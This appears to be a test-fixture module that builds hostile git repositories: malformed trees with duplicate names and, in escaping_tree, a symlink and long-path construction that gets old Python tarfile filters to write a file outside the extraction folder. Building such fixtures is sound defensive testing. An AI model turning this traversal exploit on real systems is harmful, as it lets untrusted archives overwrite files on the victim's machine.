"""Repositories that a stranger may hand over: trees and configuration that an ordinary git never writes."""

from __future__ import annotations

import subprocess
from pathlib import Path

LINK, FOLDER, FILE = "120000", "40000", "100644"
RECIPE = (
    "zenflow: 1\nname: r\nversion: 1.0.0\nsteps:\n  make: {uses: by_prompt, with: {positive_prompt: x, ratio: '1:1'}}\n"
)
_NAME = ("-c", "user.email=a@example.org", "-c", "user.name=a", "-c", "commit.gpgsign=false")


def git(folder: Path, *words: str, data: bytes = b"") -> str:
    done = subprocess.run(["git", *_NAME, *words], cwd=folder, check=True, capture_output=True, input=data)
    return done.stdout.decode().strip()


def blob(folder: Path, data: bytes) -> str:
    return git(folder, "hash-object", "-w", "--stdin", data=data)


def tree(folder: Path, *entries: tuple[str, str, str]) -> str:
    """A tree of (mode, name, object id), as written: in any order, with one name twice."""
    data = b"".join(f"{mode} {name}\0".encode() + bytes.fromhex(object_id) for mode, name, object_id in entries)
    return git(folder, "hash-object", "-w", "-t", "tree", "--literally", "--stdin", data=data)


def tag(folder: Path, root: str, name: str) -> None:
    git(folder, "tag", name, git(folder, "commit-tree", root, "-m", "x"))


def escaping_tree(folder: Path, target: str) -> str:
    """A tree that leads `tarfile`'s filter of old Pythons out of the folder: `target/pwned` is written then."""
    long, letters = "d" * 247, "abcdefghijklmnop"
    pwned = tree(folder, (FILE, "pwned", blob(folder, b"pwned")))
    deep_links = tree(folder, (LINK, "l" * 254, blob(folder, b"../" * 16)))
    for letter in reversed(letters[1:]):
        deep_links = tree(folder, (FOLDER, letter, deep_links))
    folders = tree(folder)
    for letter in reversed(letters[1:]):
        folders = tree(folder, (LINK, letter, blob(folder, long.encode())), (FOLDER, long, folders))
    outward = "/".join([*letters, "l" * 254, "..", target])
    return tree(
        folder,
        (LINK, "a", blob(folder, long.encode())),
        (FOLDER, long, folders),
        (FOLDER, "a", deep_links),
        (LINK, "escape", blob(folder, outward.encode())),
        (FOLDER, "escape", pwned),
        (FILE, "r.yaml", blob(folder, RECIPE.encode())),
    )
